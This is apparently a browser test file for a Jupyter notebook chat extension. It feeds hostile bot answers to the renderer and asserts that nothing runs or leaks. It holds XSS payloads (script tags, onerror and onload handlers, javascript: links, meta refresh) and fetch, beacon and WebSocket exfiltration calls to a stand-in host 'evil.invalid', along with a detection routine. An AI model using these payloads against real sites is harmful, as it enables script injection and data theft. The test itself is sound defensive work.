"""Hostile answers in the page: nothing of them runs, nothing leaves for the network, the page stays alive.

Whatever leaves is caught by a server of the test's own, to which the browser takes every name under ``.example``,
``.invalid`` and ``.test``: requests that a policy blocks are announced by the browser, but never reach it.
"""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

import labs
import pytest
from hostile import BOMBS, HOSTILE

pytestmark = pytest.mark.browser

GO = "http://evil.invalid"
PAGES = [
    f"<html><body><script>location = '{GO}/location'</script></body></html>",
    f"<html><meta http-equiv=refresh content='0;url={GO}/refresh'></html>",
    f"<html><script>top.location = '{GO}/top'; parent.location = '{GO}/parent'</script></html>",
    f"<html><script>window.open('{GO}/open'); parent.parent.pwned = 1; top.pwned = 1</script></html>",
    f"<html><script>fetch('{GO}/fetch'); new Image().src = '{GO}/image'; navigator.sendBeacon('{GO}/beacon');"
    f"new WebSocket('ws://evil.invalid/socket'); new EventSource('{GO}/events')</script></html>",
    f"<html><iframe src='{GO}/frame'></iframe><object data='{GO}/object'></object><embed src='{GO}/embed'></html>",
    f"<html><iframe srcdoc='<script>fetch(`{GO}/inner`); top.pwned = 2</script>'></iframe></html>",
    f"<html><form action='{GO}/form'><input name=a></form><script>document.forms[0].submit()</script></html>",
    f"<html><link rel=prefetch href='{GO}/prefetch'><link rel=stylesheet href='{GO}/sheet'><base href='{GO}/'></html>",
    f"<html><style>@import '{GO}/import'; body {{ background: url({GO}/background) }}</style></html>",
    f"<html><svg><image href='{GO}/svg'/></svg><video src='{GO}/video' poster='{GO}/poster'></video></html>",
    f"<html><script>while (location.href) navigation.navigate('{GO}/navigate')</script></html>",
    "<html><script>for (;;) {}</script></html>",
    f"</iframe><script>parent.pwned = 3</script><img src='{GO}/out'>",
]
RUNS = [
    "<script>window.pwned = 4</script>",
    "<img src=x onerror='window.pwned = 5'>",
    "<svg onload='window.pwned = 6'><script>window.pwned = 7</script></svg>",
    "[click](javascript:window.pwned=8) <a href='javascript:window.pwned=9'>x</a>",
    "<details open ontoggle='window.pwned = 10'><summary>x</summary></details>",
    "<form><input autofocus onfocus='window.pwned = 11'></form>",
    "<iframe src='javascript:parent.pwned=12'></iframe>",
    f"![track]({GO}/pixel.png) <img src='{GO}/pixel2.png'> <iframe src='https://evil.invalid/embed'></iframe>",
    "</div></section></div><div id=stolen onmouseover='window.pwned = 13'>out of the frame",
    r"$\\text{<img src=x onerror='window.pwned=14'>}$ $\\href{javascript:window.pwned=15}{x}$",
    "<meta http-equiv=refresh content='0; url=http://evil.invalid'><base href='http://evil.invalid/'>",
]
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='top.pwned=16'><image href='{GO}/drawing'/></svg>"
ANSWERS = [  # two, since one answer may show ten pages
    "\n\n".join([*(f"```html\n{page}\n```" for page in PAGES[:9]), *HOSTILE]),
    "\n\n".join([*PAGES[9:], *RUNS]),
]


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[labs.Lab]:
    with labs.lab(tmp_path_factory.mktemp("lab")) as running:
        yield running


class Sink:
    """A server that notes what reaches it."""

    def __init__(self) -> None:
        self.reached: list[str] = []
        reached = self.reached

        class Note(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                reached.append(self.path)
                self.send_response(200)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *arguments: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Note)
        Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def port(self) -> int:
        return self.server.server_port


@pytest.fixture(scope="module")
def sink(lab: labs.Lab) -> Iterator[Sink]:
    sink = Sink()
    rules = ", ".join(f"MAP *.{end} 127.0.0.1:{sink.port}" for end in ("invalid", "example", "test"))
    arguments = [*labs.CHROMIUM_ARGUMENTS, f"--host-resolver-rules={rules}"]
    path, usual = lab.browser.browser_type.executable_path, lab.browser
    lab.browser = usual.browser_type.launch(executable_path=labs.chromium() or path, args=arguments)
    yield sink
    lab.browser.close()
    lab.browser = usual
    sink.server.shutdown()


def cells(answers: list[list[str]], *, pause_s: float) -> list[str]:
    """Write a notebook whose bot yields the pieces of each answer, with all else that an answer may bring."""
    bot = (
        "%%poebot Evil\nimport asyncio, json\nimport poe_notebook as fp\n"
        f"PIECES, NASTY, SVG = json.loads({json.dumps(json.dumps([answers, RUNS[1], SVG]))})\n"
        "def file(url, kind, name):\n    attachment = fp.Attachment(url=url, content_type=kind, name=name)\n"
        "    return fp.PartialResponse(text='', attachment=attachment)\n"
        "async def get_response(request):\n    for piece in PIECES[len(request.query) // 2]:\n        yield piece\n"
        f"        await asyncio.sleep({pause_s})\n"
        "    yield fp.PartialResponse(text=NASTY, is_suggested_reply=True)\n"
        "    yield fp.DataResponse(metadata=NASTY)\n"
        "    yield file('javascript:window.pwned=17', 'text/html', NASTY)\n"
        "    yield file('data:image/svg+xml,' + SVG, 'image/svg+xml', 'drawing.svg')\n"
        "    yield file('data:text/html,' + NASTY, 'text/html', 'page.html')\n"
        "    yield file('data:image/png,' + NASTY, 'image/png', 'no-image.png')\n"
        "    call = {'index': 0, 'id': NASTY, 'function': {'name': NASTY, 'arguments': NASTY}}\n"
        "    data = json.dumps({'choices': [{'delta': {'tool_calls': [call]}}]})\n"
        "    yield fp.ServerSentEvent(event='json', data=data)\n"
        "    yield fp.ServerSentEvent(event='text', data=json.dumps({'text': NASTY, 'index': 7}))\n"
        "    print(NASTY)\n    raise ValueError(NASTY)\n"
    )
    asks = [f"%poe chat Evil {RUNS[0]}" for _ in answers]
    return ["%load_ext poe_notebook", bot, *asks, "%poe inspect", "print('the ' + 'end')"]


def at_random(text: str, *, seed: int) -> list[str]:
    """Cut a text at random places."""
    dice, pieces, start = random.Random(seed), list[str](), 0
    while start < len(text):
        size = dice.choice([1, 3, 9, 40, 200])
        pieces.append(text[start : start + size])
        start += size
    return pieces


@pytest.mark.parametrize("way", ["in one piece", "at random places"])
def test_nothing_of_a_hostile_answer_runs_or_leaves(lab: labs.Lab, sink: Sink, way: str) -> None:
    is_whole = way == "in one piece"
    answers = [[answer] if is_whole else at_random(answer, seed=5) for answer in ANSWERS]
    lab.write("evil.ipynb", cells(answers, pause_s=0.3 if is_whole else 0.004))
    with lab.notebook("evil.ipynb", height=3000) as notebook:
        page = notebook.page
        notebook.run_all()
        for moment in ("live", "reopened"):
            shown = " ".join(notebook.outputs())
            assert "the end" in shown
            assert "ValueError" in shown
            assert "window.pwned = 4" in shown, "the hostile text is shown as text"
            page.wait_for_timeout(1000)
            assert page.evaluate("window.pwned") is None
            assert page.url.startswith(lab.url)
            assert page.evaluate(STRANGERS) == []
            frames = page.locator(".poe-turn iframe")
            assert frames.count() > 14, "the pages are shown"
            for at in range(frames.count()):
                frames.nth(at).scroll_into_view_if_needed()
            page.wait_for_timeout(1000)
            assert page.evaluate("window.pwned") is None
            notebook.screenshot(f"hostile-{moment}")
            notebook.save()
            notebook.reload()
        assert sink.reached == []
        page.evaluate(f"() => {{ new Image().src = '{GO}/control.png' }}")
        page.wait_for_timeout(500)
        assert sink.reached == ["/control.png"], "what leaves would have been seen"
        sink.reached.clear()


# Elements and addresses in outputs that nothing of ours makes.
STRANGERS = """() => {
    const found = [];
    const none = "script, object, form, link, meta, base, svg, #stolen, [onerror], [onload], [style*=position]";
    const address = /^(https?:|mailto:|data:application\\/octet-stream|#poe-|blob:)/;
    for (const output of document.querySelectorAll(".jp-OutputArea-output .poe-turn")) {
        const all = (selector) => [...output.querySelectorAll(selector)];
        found.push(...all(none));
        found.push(...all("a[href]").filter((link) => !address.test(link.getAttribute("href"))));
        found.push(...all("iframe[src], iframe:not([sandbox=allow-scripts])"));
        found.push(...all("img, audio, video, embed").filter((node) => !/^(data|blob):/.test(node.src)));
    }
    return found.map((node) => node.outerHTML.slice(0, 200));
}"""


def test_answers_made_to_hang_leave_the_page_alive(lab: labs.Lab) -> None:
    bot = (
        f"%%poebot Bombs\nimport asyncio, sys\nsys.path.append({str(labs.ROOT / 'tests')!r})\n"
        "from hostile import BOMBS\n"
        "async def get_response(request):\n    text, _ = BOMBS[request.query[-1].content]\n"
        "    await asyncio.sleep(0.2)\n    for start in range(0, len(text), 50_000):\n"
        "        yield text[start : start + 50_000]\n        await asyncio.sleep(0.02)\n"
    )
    asks = [f"%poe chat Bombs {name}" for name in BOMBS]
    lab.write("bombs.ipynb", ["%load_ext poe_notebook", bot, *asks, "print('the ' + 'end')"])
    with lab.notebook("bombs.ipynb") as notebook:
        page = notebook.page
        page.evaluate(
            "() => { window.beats = [performance.now()]; setInterval(() => beats.push(performance.now()), 50) }"
        )
        notebook.run_all(wait=False)
        page.wait_for_function("document.body.innerText.includes('the end')", timeout=90_000)
        pauses = page.evaluate("beats.slice(1).map((at, i) => at - beats[i])")
        assert max(pauses) < 3_000, f"the page stood still for {max(pauses):.0f} ms"
        assert page.evaluate("1 + 1") == 2
